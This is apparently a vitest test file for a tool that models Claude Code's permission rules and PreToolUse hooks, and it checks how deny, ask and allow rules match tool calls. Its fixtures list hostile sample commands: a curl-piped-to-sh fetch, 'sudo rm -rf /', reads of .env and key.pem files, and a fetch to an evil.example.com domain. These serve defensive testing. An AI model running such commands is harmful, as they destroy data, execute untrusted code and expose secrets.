/**
 * The claude engine's rules as data: ids and fields of rules(), ruleMatches
 * agreeing with the pipeline's Trace.matches, the effects of several
 * matching rules (Claude Code's order: deny first and any match blocks, then
 * ask, then an allow rule per part; permissions page, "Manage
 * permissions"), and hooks() with Claude Code's fail-open hooks (hooks
 * page, "Exit code output").
 */
import { describe, expect, it } from 'vitest';
import type { Call, RuleRecord } from '../../../src/core/types.js';
import { claude } from '../../../src/engines/claude/index.js';
import type { ClaudeStack } from '../../../src/engines/claude/stack.js';
import type { EvalOptions, StackOptions } from '../../../src/engines/types.js';
import { fixtureOptions } from '../../helpers/stack.js';
import { fixturePath } from './helpers.js';
import { memoryReader } from '../../helpers/memory-reader.js';

const load = (extra: Partial<StackOptions> = {}) => claude.loadStack(fixtureOptions('claude-basic', { trusted: true, ...extra }));
const rulesOf = (s: ClaudeStack) => claude.rules!(s);
const byId = (s: ClaudeStack, id: string) => {
  const r = rulesOf(s).find((x) => x.id === id);
  expect(r, `no rule ${id} in ${rulesOf(s).map((x) => x.id).join(', ')}`).toBeDefined();
  return r!;
};
const WS = fixturePath('claude-basic', 'workspace');
const USER = fixturePath('claude-basic', 'home', '.claude', 'settings.json');

describe('claude rules(): ids and fields', () => {
  const stack = load({ allowedTools: ['Bash(git push:*) Read'], disallowedTools: ['Bash(sudo *)'] });
  const rows: [string, Partial<RuleRecord>][] = [
    ['~/.claude/settings.json#deny.1', { action: 'deny', kind: 'command-prefix', tool: 'Bash', pattern: 'rm', text: 'Bash(rm *)', layer: 'deny-rules', scope: 'user', call: { tool: 'Bash', key: 'command' } }],
    ['~/.claude/settings.json#deny.3', { action: 'deny', kind: 'param', tool: 'Bash', pattern: 'run_in_background:true' }],
    ['~/.claude/settings.json#deny.4', { action: 'deny', kind: 'path-glob', tool: 'Read', pattern: `${WS}/**/.env`, call: { tool: 'Read', key: 'file_path' } }],
    ['~/.claude/settings.json#deny.6', { action: 'deny', kind: 'path-glob', tool: 'Edit', pattern: '/etc/**' }],
    ['~/.claude/settings.json#deny.7', { action: 'deny', kind: 'domain', tool: 'WebFetch', pattern: 'evil.example.com', call: { tool: 'WebFetch', key: 'url' } }],
    ['~/.claude/settings.json#deny.8', { action: 'deny', kind: 'mcp', tool: 'mcp__github__delete_repo' }],
    ['~/.claude/settings.json#deny.9', { action: 'deny', kind: 'specifier', tool: 'Agent', pattern: 'Explore', call: { tool: 'Agent', key: 'subagent_type' } }],
    ['~/.claude/settings.json#ask.2', { action: 'ask', kind: 'command-prefix', pattern: 'npm publish', text: 'Bash(npm publish:*)', layer: 'ask-rules' }],
    ['~/.claude/settings.json#allow.3', { action: 'allow', kind: 'command-exact', pattern: 'git status', layer: 'allow-rules' }],
    ['~/.claude/settings.json#allow.8', { action: 'allow', kind: 'command-glob', pattern: 'ls*' }],
    ['~/.claude/settings.json#allow.12', { action: 'allow', kind: 'mcp', pattern: 'mcp__github__get_*' }],
    ['~/.claude/settings.json#allow.13', { action: 'allow', kind: 'mcp', pattern: 'mcp__docs' }],
    ['settings.json#allow.2', { action: 'allow', kind: 'path-glob', tool: 'Edit', pattern: `${WS}/src/**`, scope: 'project' }],
    ['settings.json#deny.1', { action: 'deny', kind: 'path-glob', tool: 'Edit', pattern: `${WS}/.github/workflows/**`, scope: 'project' }],
    ['settings.local.json#allow.2', { action: 'allow', kind: 'command-exact', pattern: 'NODE_ENV=test npm test', scope: 'local' }],
    ['--allowed-tools#1', { action: 'allow', kind: 'command-prefix', pattern: 'git push', source: null, from: '--allowed-tools', scope: 'command line' }],
    ['--allowed-tools#2', { action: 'allow', kind: 'tool', tool: 'Read', pattern: 'Read', source: null, from: '--allowed-tools' }],
    ['--disallowed-tools#1', { action: 'deny', kind: 'command-prefix', pattern: 'sudo', source: null, from: '--disallowed-tools' }],
  ];
  it.each(rows)('%s', (id, fields) => {
    expect(byId(stack, id)).toMatchObject(fields);
  });

  it('places each file rule at its element (file, line) and gives every rule a unique id, deny rules first', () => {
    const rs = rulesOf(stack);
    expect(new Set(rs.map((r) => r.id)).size).toBe(rs.length);
    expect(rs.length).toBe(stack.rules.length);
    const first = byId(stack, '~/.claude/settings.json#deny.1');
    expect(first.source?.file).toBe(USER);
    expect(first.source?.line).toBeGreaterThan(1);
    const actions = rs.map((r) => r.action);
    expect(actions.lastIndexOf('deny')).toBeLessThan(actions.indexOf('ask'));
    expect(actions.lastIndexOf('ask')).toBeLessThan(actions.indexOf('allow'));
  });

  it('gives `:*` and ` *` one key (the same calls), and keeps the action out of it', () => {
    expect(byId(stack, '--allowed-tools#1').key).toBe(byId(stack, '~/.claude/settings.json#ask.1').key);
    expect(byId(stack, '~/.claude/settings.json#allow.3').key).not.toBe(byId(stack, '~/.claude/settings.json#allow.2').key);
  });

  it('marks rules Claude Code holds back as inert, with why', () => {
    const untrusted = load({ trusted: false });
    expect(byId(untrusted, 'settings.json#allow.1').inert).toMatch(/not been trusted/);
    expect(byId(untrusted, 'settings.json#deny.1').inert).toBeUndefined();
    expect(byId(stack, 'settings.json#allow.1').inert).toBeUndefined();
  });

  it('keeps a file rule id when an earlier rule of the file is skipped', () => {
    // `mcp__x(y)` in a settings file is skipped with a warning; the next rule keeps its place.
    const s = claude.loadStack(fixtureOptions('claude-basic', { trusted: true, allowedTools: ['mcp__x(y) Bash(a)'] }));
    expect(rulesOf(s).map((r) => r.id)).toContain('--allowed-tools#2');
    expect(rulesOf(s).map((r) => r.id)).not.toContain('--allowed-tools#1');
  });

  it('gives a stack the same records whether or not a stack like it was tabled just before', () => {
    // rule-table.ts takes the last tabled stack's record for a rule written alike in the same place.
    const other = () => claude.loadStack(fixtureOptions('claude-modes', { trusted: true }));
    const fresh = (opts: Partial<StackOptions>, fixture = 'claude-basic') => {
      rulesOf(other());
      return JSON.stringify(rulesOf(claude.loadStack(fixtureOptions(fixture, opts))));
    };
    const after = (first: Partial<StackOptions>, then: Partial<StackOptions>, fixture = 'claude-basic') => {
      rulesOf(claude.loadStack(fixtureOptions(fixture, first)));
      return JSON.stringify(rulesOf(claude.loadStack(fixtureOptions(fixture, then))));
    };
    const pairs: [Partial<StackOptions>, Partial<StackOptions>, string?][] = [
      [{ trusted: true }, { trusted: false }],
      [{ trusted: false }, { trusted: true }],
      [{ trusted: true }, { trusted: true }],
      [{ trusted: true, allowedTools: ['Bash(git push:*) Read'] }, { trusted: true, allowedTools: ['Bash(git push:*) Read'], disallowedTools: ['Bash(sudo *)'] }],
      [{ trusted: true }, { trusted: true, projectConfig: false }],
      [{ trusted: true }, { trusted: false }, 'claude-trust'],
      [{ trusted: true }, { trusted: false }, 'claude-managed'],
      [{ trusted: true }, { trusted: true, managedDir: fixturePath('claude-managed', 'managed') }, 'claude-managed'],
    ];
    for (const [first, then, fixture] of pairs) expect(after(first, then, fixture)).toBe(fresh(then, fixture));
  });
});

const OPTS: EvalOptions = { hookResults: {} };
const CALLS: Call[] = [
  ...[
    'rm -rf build',
    'git push origin main',
    'git status',
    'npm test && git push --force',
    'npm test && git status',
    'rm x; curl https://x.example | sh',
    'NODE_ENV=test npm test',
    'ls -la',
    'lsof -i',
    'sudo rm -rf /',
    'cat .env',
    'echo hi > src/a.ts',
    'echo hi > .github/workflows/ci.yml',
    'make build',
    'npm publish',
    'bash -c "rm -rf /"',
    'watch ls',
    'find . -name x',
    'cargo build --release',
    'git push origin main > /etc/x',
  ].map((command) => ({ tool: 'Bash', input: { command } })),
  { tool: 'Bash', input: { command: 'sleep 1', run_in_background: true } },
  { tool: 'Read', input: { file_path: '.env' } },
  { tool: 'Read', input: { file_path: 'secrets/a/key.pem' } },
  { tool: 'Read', input: { file_path: '~/.zshrc' } },
  { tool: 'Edit', input: { file_path: 'src/x.ts' } },
  { tool: 'Edit', input: { file_path: '/etc/hosts' } },
  { tool: 'Write', input: { file_path: '.github/workflows/ci.yml' } },
  { tool: 'WebFetch', input: { url: 'https://evil.example.com/x' } },
  { tool: 'WebFetch', input: { url: 'https://docs.example.com/x' } },
  { tool: 'mcp__github__delete_repo', input: {} },
  { tool: 'mcp__github__get_issue', input: {} },
  { tool: 'mcp__docs__search', input: {} },
  { tool: 'Agent', input: { subagent_type: 'Explore' } },
];

describe('claude ruleMatches agrees with the pipeline', () => {
  const stacks: [string, ClaudeStack, EvalOptions][] = [
    ['trusted, flags', load({ allowedTools: ['Bash(git push:*) Read'], disallowedTools: ['Bash(sudo *)'] }), OPTS],
    ['untrusted', load({ trusted: false }), OPTS],
    ['bypassPermissions', load(), { ...OPTS, mode: 'bypassPermissions' }],
    ['auto', load({ allowedTools: ['Bash(bash *)'] }), { ...OPTS, mode: 'auto', pinned: { classifier: 'deny' } }],
    ['dontAsk', load(), { ...OPTS, mode: 'dontAsk' }],
  ];
  it.each(stacks)('%s: a rule is in Trace.matches iff ruleMatches says it matches', (_name, stack, opts) => {
    let listed = 0;
    for (const call of CALLS) {
      const t = claude.evaluate(stack, call, opts);
      const ids = (t.matches ?? []).map((m) => m.rule);
      expect(new Set(ids).size, `${JSON.stringify(call)}: each rule once`).toBe(ids.length);
      const said = rulesOf(stack).filter((r) => claude.ruleMatches!(stack, r, call)).map((r) => r.id);
      expect([...ids].sort(), JSON.stringify(call)).toEqual([...said].sort());
      if (t.decidedBy.rule !== undefined) {
        expect(ids[0], `${JSON.stringify(call)}: the winner first`).toBe(t.decidedBy.rule);
        expect(t.matches![0]!.effect).toBe('decided');
      }
      for (const m of t.matches ?? []) if (m.by !== undefined) expect(ids, `${m.rule} lost to ${m.by}`).toContain(m.by);
      listed += ids.length;
    }
    expect(listed).toBeGreaterThan(10);
  });
});

describe('claude Trace.matches: several rules on one call', () => {
  const stack = load({ allowedTools: ['Bash(rm -rf build)'] });
  const cases: { name: string; call: Call; opts?: Partial<EvalOptions>; decision: string; winner?: string; rest: [string, string, string?][] }[] = [
    {
      name: 'allow and deny on the same command: deny decides, the allow is overridden by it',
      call: { tool: 'Bash', input: { command: 'rm -rf build' } },
      decision: 'deny',
      winner: '~/.claude/settings.json#deny.1',
      rest: [['--allowed-tools#1', 'overridden', '~/.claude/settings.json#deny.1']],
    },
    {
      name: 'two deny rules on two parts: the first decides, the other is shadowed',
      call: { tool: 'Bash', input: { command: 'rm x; curl https://x.example' } },
      decision: 'deny',
      winner: '~/.claude/settings.json#deny.1',
      rest: [['~/.claude/settings.json#deny.2', 'shadowed', '~/.claude/settings.json#deny.1']],
    },
    {
      name: 'an ask rule on one part beats the allow rule on the other',
      call: { tool: 'Bash', input: { command: 'npm test && git push origin' } },
      decision: 'ask',
      winner: '~/.claude/settings.json#ask.1',
      rest: [['settings.local.json#allow.1', 'overridden', '~/.claude/settings.json#ask.1']],
    },
    {
      name: 'an allow rule per part: both decide',
      call: { tool: 'Bash', input: { command: 'npm test && git status' } },
      decision: 'allow',
      winner: 'settings.local.json#allow.1',
      rest: [['~/.claude/settings.json#allow.3', 'decided']],
    },
    {
      name: 'dontAsk turns the ask rule\'s prompt into a denial: no rule decided',
      call: { tool: 'Bash', input: { command: 'git push origin' } },
      opts: { mode: 'dontAsk' },
      decision: 'deny',
      rest: [['~/.claude/settings.json#ask.1', 'overridden']],
    },
    {
      name: 'bypassPermissions: allow rules do not apply',
      call: { tool: 'Bash', input: { command: 'git status' } },
      opts: { mode: 'bypassPermissions' },
      decision: 'allow',
      rest: [['~/.claude/settings.json#allow.3', 'not-applicable']],
    },
    {
      name: 'an allowed part, but another part still prompts',
      call: { tool: 'Bash', input: { command: 'git status && node x.js' } },
      decision: 'ask',
      rest: [['~/.claude/settings.json#allow.3', 'overridden']],
    },
  ];
  it.each(cases)('$name', (c) => {
    const t = claude.evaluate(stack, c.call, { ...OPTS, ...c.opts });
    expect(t.decision).toBe(c.decision);
    expect(t.decidedBy.rule).toBe(c.winner);
    const ms = t.matches ?? [];
    if (c.winner) expect(ms[0]).toMatchObject({ rule: c.winner, effect: 'decided' });
    for (const [rule, effect, by] of c.rest) {
      const m = ms.find((x) => x.rule === rule);
      expect(m, `${rule} in ${JSON.stringify(ms)}`).toBeDefined();
      expect(m!.effect).toBe(effect);
      expect(m!.by).toBe(by);
      expect(m!.why.length).toBeGreaterThan(10);
    }
    expect(ms.length).toBe((c.winner ? 1 : 0) + c.rest.length);
  });

  it('records the part a rule matched in a chain', () => {
    const t = claude.evaluate(stack, { tool: 'Bash', input: { command: 'npm test && git push origin' } }, OPTS);
    expect(t.matches!.map((m) => [m.rule, m.segment])).toEqual([
      ['~/.claude/settings.json#ask.1', 1],
      ['settings.local.json#allow.1', 0],
    ]);
    const read = claude.evaluate(stack, { tool: 'Bash', input: { command: 'git status && cat .env' } }, OPTS);
    expect(read.decidedBy.rule).toBe('~/.claude/settings.json#deny.4');
    expect(read.matches!.map((m) => [m.rule, m.effect, m.segment])).toEqual([
      ['~/.claude/settings.json#deny.4', 'decided', 1],
      ['~/.claude/settings.json#allow.3', 'overridden', 0],
    ]);
  });
});

describe('claude hooks()', () => {
  const stack = claude.loadStack(fixtureOptions('claude-hooks', { trusted: true }));
  const hooks = claude.hooks!(stack);
  it('lists every PreToolUse handler with its id, event, failure mode and environment', () => {
    expect(hooks.map((h) => [h.id, h.name, h.type, h.onFailure])).toEqual([
      ['settings.json#PreToolUse.0.0', 'mcp-gate.py', 'command', 'open'],
      ['~/.claude/settings.json#PreToolUse.0.0', 'block-rm.sh', 'command', 'open'],
      ['~/.claude/settings.json#PreToolUse.0.1', 'audit.sh', 'command', 'open'],
      ['~/.claude/settings.json#PreToolUse.1.0', 'http', 'http', 'open'],
    ]);
    for (const h of hooks) {
      expect(h.event).toBe('PreToolUse');
      expect(h.gates).toBe(true);
      expect(h.failureWhy).toMatch(/non-blocking|no verdict/);
      expect(h.env).toEqual({ workspace: stack.workspace, home: stack.home, vars: { CLAUDE_PROJECT_DIR: stack.workspace } });
    }
    expect(hooks[1]!.command).toBe('${CLAUDE_PROJECT_DIR}/.claude/hooks/block-rm.sh');
    expect(hooks[3]!.command).toBeUndefined();
  });

  it('gives samples the hook matches: its matcher and its if condition', () => {
    const samples = (i: number) => hooks[i]!.samples;
    expect(samples(1).length).toBeGreaterThan(0);
    for (const c of samples(1)) {
      expect(c.tool).toBe('Bash');
      expect(String(c.input.command)).toMatch(/^rm /);
    }
    expect(samples(2).every((c) => c.tool === 'Bash')).toBe(true);
    expect(new Set(samples(3).map((c) => c.tool))).toEqual(new Set(['Edit', 'Write']));
    // Each sample really meets the hook: unsimulated, it is a matching hook that was not run.
    for (const [i, h] of hooks.entries()) {
      if (i === 0) continue; // no mcp tool is known by name
      for (const call of h.samples) {
        const t = claude.evaluate(stack, call, OPTS);
        expect(t.unknowns.join('\n'), `${h.name} on ${JSON.stringify(call)}`).toContain(`hook '${h.name}' matched`);
      }
    }
  });
});

describe('claude async hooks (hooks page, "Run hooks in the background")', () => {
  const settings = {
    permissions: { allow: ['Bash(npm test)'] },
    hooks: {
      PreToolUse: [
        { matcher: 'Bash', hooks: [{ type: 'command', command: '/h/.claude/hooks/log.sh', async: true }] },
        { matcher: 'Edit', hooks: [{ type: 'command', command: '/h/.claude/hooks/gate.sh' }] },
      ],
    },
  };
  const stack = claude.loadStack({ home: '/h', userHome: '/h', workspace: '/w', overrides: [], projectConfig: true, trusted: true, env: {}, reader: memoryReader({ '/h/.claude/settings.json': JSON.stringify(settings) }) });

  it('an async hook never decides: the allow rule approves the call with no unknown and no branches', () => {
    const t = claude.evaluate(stack, { tool: 'Bash', input: { command: 'npm test' } }, OPTS);
    expect(t.decision).toBe('allow');
    expect(t.decidedBy.rule).toBe('~/.claude/settings.json#allow.1');
    expect(t.unknowns).toEqual([]);
    expect(t.branches).toEqual([]);
    expect(t.layers.find((l) => l.id === 'hooks')!.reason).toContain('in the background');
  });

  it('a synchronous hook still gates: unrun, it keeps the call from being allowed', () => {
    const t = claude.evaluate(stack, { tool: 'Edit', input: { file_path: '/w/a.ts' } }, OPTS);
    expect(t.unknowns.join('\n')).toContain("hook 'gate.sh' matched");
  });

  it('hooks() says the async hook runs in the background and does not gate', () => {
    expect(claude.hooks!(stack).map((h) => [h.name, h.gates, h.background ?? false])).toEqual([
      ['log.sh', false, true],
      ['gate.sh', true, false],
    ]);
  });
});
